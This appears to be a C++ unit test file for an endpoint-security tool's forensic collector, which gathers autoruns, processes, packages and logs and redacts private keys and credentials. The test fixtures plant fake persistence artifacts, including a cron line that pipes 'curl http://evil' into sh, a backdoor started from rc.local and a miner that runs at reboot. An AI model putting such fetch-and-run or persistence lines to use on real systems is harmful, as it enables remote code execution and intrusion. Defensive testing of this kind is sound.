#include "response/investigation_package.h"

#include <archive.h>
#include <archive_entry.h>
#include <gtest/gtest.h>
#include <sys/stat.h>

#include <filesystem>
#include <fstream>
#include <map>

#include "common/temp_dir.h"

namespace ward::response {
namespace {

void Write(const std::string& path, const std::string& data) {
  std::filesystem::create_directories(std::filesystem::path(path).parent_path());
  std::ofstream(path, std::ios::binary) << data;
}

// name -> content of every entry, read back with libarchive.
std::map<std::string, std::string> ReadTarGz(const std::string& path) {
  std::map<std::string, std::string> out;
  archive* a = archive_read_new();
  archive_read_support_filter_gzip(a);
  archive_read_support_format_tar(a);
  EXPECT_EQ(archive_read_open_filename(a, path.c_str(), 64 * 1024), ARCHIVE_OK) << archive_error_string(a);
  archive_entry* e = nullptr;
  while (archive_read_next_header(a, &e) == ARCHIVE_OK) {
    std::string data;
    char buf[65536];
    la_ssize_t n;
    while ((n = archive_read_data(a, buf, sizeof buf)) > 0) data.append(buf, static_cast<size_t>(n));
    out[archive_entry_pathname(e)] = data;
  }
  archive_read_free(a);
  return out;
}

const char* kPem =
    "-----BEGIN OPENSSH PRIVATE KEY-----\n"
    "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n"
    "-----END OPENSSH PRIVATE KEY-----\n";
const char* kKeyBody = "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW";

TEST(InvestigationPackageTest, FakeRootProducesEveryPartWithoutSecrets) {
  test::TempDir root;
  test::TempDir state;
  test::TempDir out;
  Write(root.File("etc/crontab"), "* * * * * root /tmp/.x/run\n");
  Write(root.File("etc/cron.d/job"), "*/5 * * * * root curl http://evil | sh\n");
  Write(root.File("var/spool/cron/crontabs/alice"), "@reboot /home/alice/.miner\n");
  Write(root.File("etc/systemd/system/evil.service"), "[Service]\nExecStart=/usr/local/bin/evil\n");
  Write(root.File("lib/systemd/system/ssh.service"), "[Service]\nExecStart=/usr/sbin/sshd -D\n");
  std::filesystem::create_directories(root.File("etc/systemd/system/multi-user.target.wants"));
  std::filesystem::create_symlink("/lib/systemd/system/ssh.service",
                                  root.File("etc/systemd/system/multi-user.target.wants/ssh.service"));
  std::filesystem::create_symlink("../evil.service", root.File("etc/systemd/system/multi-user.target.wants/evil.service"));
  Write(root.File("etc/rc.local"), "#!/bin/sh\n/opt/backdoor &\n");
  Write(root.File("etc/init.d/networking"), "#!/bin/sh\n");
  Write(root.File("etc/profile"), "export PATH=/usr/bin\n");
  Write(root.File("etc/profile.d/zz.sh"), "alias ls='ls --color'\n");
  Write(root.File("home/alice/.bashrc"), std::string("export X=1\n") + kPem);
  Write(root.File("root/.profile"), "mesg n\n");
  // A planted link to a file outside the fake root: listed, never copied.
  Write(state.File("outside-secret"), "TOP-SECRET-CONTENT\n");
  std::filesystem::create_symlink(state.File("outside-secret"), root.File("etc/cron.d/sneaky"));
  Write(root.File("var/lib/dpkg/status"),
        "Package: bash\nStatus: install ok installed\nArchitecture: amd64\nVersion: 5.2.15-2+b2\n\n"
        "Package: removed\nStatus: deinstall ok config-files\nVersion: 1.0\n\n"
        "Package: curl\nStatus: install ok installed\nArchitecture: amd64\nVersion: 7.88.1-10\n");
  Write(root.File("var/log/auth.log"), std::string(5000, 'x') + "\nFailed password for root from 203.0.113.9\n");

  Write(state.File("identity.json"),
        R"({"deviceId":"dev-1","tenantId":"t-1","credential":"CRED-SECRET-42","serverUrl":"https://ward"})");
  Write(state.File("policy.json"), R"({"version":"7","indicators":[]})");
  Write(state.File("device.key"), kPem);
  Write(state.File("sensor.log"), std::string("sensor started\n") + kPem);

  InvestigationPackageOptions o;
  o.root = root.path();
  o.state_dir = state.path();
  o.sensor_log_path = state.File("sensor.log");
  o.max_log_tail_bytes = 1024;
  auto pkg = CollectInvestigationPackage(o, out.File("package.tar.gz"));
  ASSERT_TRUE(pkg.has_value()) << pkg.error().ToString();
  EXPECT_GT(pkg->size, 0);
  struct stat st {};
  ASSERT_EQ(::stat(pkg->path.c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 0777, 0600u);

  auto files = ReadTarGz(pkg->path);
  for (const char* name :
       {"manifest.json", "Processes/processes.txt", "Processes/processes.json", "Network connections/connections.txt",
        "Users/logged_on_users.txt", "Autoruns/cron/etc/crontab", "Autoruns/cron/etc/cron.d/job",
        "Autoruns/cron/var/spool/cron/crontabs/alice", "Autoruns/systemd/etc/systemd/system/evil.service",
        "Autoruns/systemd/enabled/lib/systemd/system/ssh.service", "Autoruns/systemd/enabled_units.txt",
        "Autoruns/rc/etc/rc.local", "Autoruns/rc/init.d.txt", "Autoruns/shell/etc/profile",
        "Autoruns/shell/etc/profile.d/zz.sh", "Autoruns/shell/home/alice/.bashrc", "Autoruns/shell/root/.profile",
        "Autoruns/symbolic_links.txt", "Installed programs/packages.txt", "Logs/var/log/auth.log",
        "Sensor/state_dir_listing.txt", "Sensor/identity.json", "Sensor/policy.json", "Sensor/sensor.log"}) {
    EXPECT_TRUE(files.count(name)) << name;
  }

  // Real /proc: this test process is in the listing.
  EXPECT_NE(files["Processes/processes.txt"].find(std::to_string(::getpid())), std::string::npos);
  EXPECT_NE(files["Autoruns/systemd/enabled_units.txt"].find("multi-user.target.wants/evil.service -> ../evil.service"),
            std::string::npos);
  EXPECT_NE(files["Autoruns/symbolic_links.txt"].find("/etc/cron.d/sneaky -> "), std::string::npos);
  EXPECT_EQ(files["Installed programs/packages.txt"],
            "PACKAGE\tVERSION\tARCHITECTURE\nbash\t5.2.15-2+b2\tamd64\ncurl\t7.88.1-10\tamd64\n");
  EXPECT_NE(files["Logs/var/log/auth.log"].find("Failed password for root"), std::string::npos);
  EXPECT_LT(files["Logs/var/log/auth.log"].size(), 1200u);
  EXPECT_NE(files["Sensor/state_dir_listing.txt"].find("/device.key"), std::string::npos);
  EXPECT_NE(files["Sensor/identity.json"].find("dev-1"), std::string::npos);
  EXPECT_EQ(files["Sensor/policy.json"], R"({"version":"7","indicators":[]})");

  for (const auto& [name, content] : files) {
    EXPECT_EQ(content.find("CRED-SECRET-42"), std::string::npos) << name;
    EXPECT_EQ(content.find(kKeyBody), std::string::npos) << name;
    EXPECT_EQ(content.find("TOP-SECRET-CONTENT"), std::string::npos) << name;
  }

  auto manifest = json::Value::Parse(files["manifest.json"]);
  ASSERT_TRUE(manifest.has_value());
  std::map<std::string, std::string> status;
  for (const json::Value& p : manifest->Find("parts")->items()) status[*p.GetString("name")] = *p.GetString("status");
  EXPECT_EQ(status.size(), 7u);
  EXPECT_EQ(status["Processes"], "Collected");
  EXPECT_EQ(status["Installed programs"], "Collected");
  EXPECT_EQ(status["Users"], "Partial");  // the fake root has no utmp, and says so
  EXPECT_EQ(status["Sensor"], "Collected");
}

TEST(InvestigationPackageTest, MissingPiecesAreReportedAndLargeFilesCapped) {
  test::TempDir root;
  test::TempDir out;
  Write(root.File("etc/crontab"), std::string(3000, 'c'));
  std::filesystem::create_directories(root.File("var/lib/rpm"));
  InvestigationPackageOptions o;
  o.root = root.path();
  o.proc_root = root.File("no-proc");
  o.max_file_bytes = 1000;
  auto pkg = CollectInvestigationPackage(o, out.File("p.tgz"));
  ASSERT_TRUE(pkg.has_value()) << pkg.error().ToString();
  auto files = ReadTarGz(pkg->path);
  EXPECT_NE(files["Autoruns/cron/etc/crontab"].find("[truncated at 1000 bytes by Ward]"), std::string::npos);
  EXPECT_LT(files["Autoruns/cron/etc/crontab"].size(), 1100u);
  auto manifest = json::Value::Parse(files["manifest.json"]);
  ASSERT_TRUE(manifest.has_value());
  for (const json::Value& p : manifest->Find("parts")->items()) {
    if (p.GetString("name") == "Processes") {
      EXPECT_EQ(p.GetString("status"), "Failed");
    }
    if (p.GetString("name") == "Installed programs") {
      EXPECT_EQ(p.GetString("status"), "Partial");
      EXPECT_EQ(p.Find("errors")->items()[0].as_string(), "rpm database not parsed");
    }
    if (p.GetString("name") == "Sensor") {
      EXPECT_EQ(p.GetString("status"), "Partial");
    }
  }
}

TEST(InvestigationPackageTest, RealHostPackageBuilds) {
  test::TempDir out;
  InvestigationPackageOptions o;  // the real root, read only
  auto pkg = CollectInvestigationPackage(o, out.File("host.tgz"));
  ASSERT_TRUE(pkg.has_value()) << pkg.error().ToString();
  EXPECT_EQ(pkg->parts.size(), 7u);
  auto files = ReadTarGz(pkg->path);
  EXPECT_TRUE(files.count("Processes/processes.txt"));
  EXPECT_TRUE(files.count("Network connections/connections.txt"));
}

TEST(InvestigationPackageTest, CancelledBeforeStartWritesNothing) {
  test::TempDir out;
  InvestigationPackageOptions o;
  o.cancelled = [] { return true; };
  auto pkg = CollectInvestigationPackage(o, out.File("p.tgz"));
  ASSERT_FALSE(pkg.has_value());
  EXPECT_FALSE(std::filesystem::exists(out.File("p.tgz")));
}

TEST(InvestigationPackageTest, RedactsOnlyPrivateKeyBlocks) {
  std::string text = std::string("a\n-----BEGIN CERTIFICATE-----\nCERTBODY\n-----END CERTIFICATE-----\n") + kPem +
                     "-----BEGIN RSA PRIVATE KEY-----\nRSABODY\n-----END RSA PRIVATE KEY-----\nz\n";
  EXPECT_EQ(RedactPrivateKeys(text), 2);
  EXPECT_NE(text.find("CERTBODY"), std::string::npos);
  EXPECT_EQ(text.find("RSABODY"), std::string::npos);
  EXPECT_EQ(text.find(kKeyBody), std::string::npos);
  EXPECT_NE(text.find("-----END RSA PRIVATE KEY-----\nz\n"), std::string::npos);
}

}  // namespace
}  // namespace ward::response
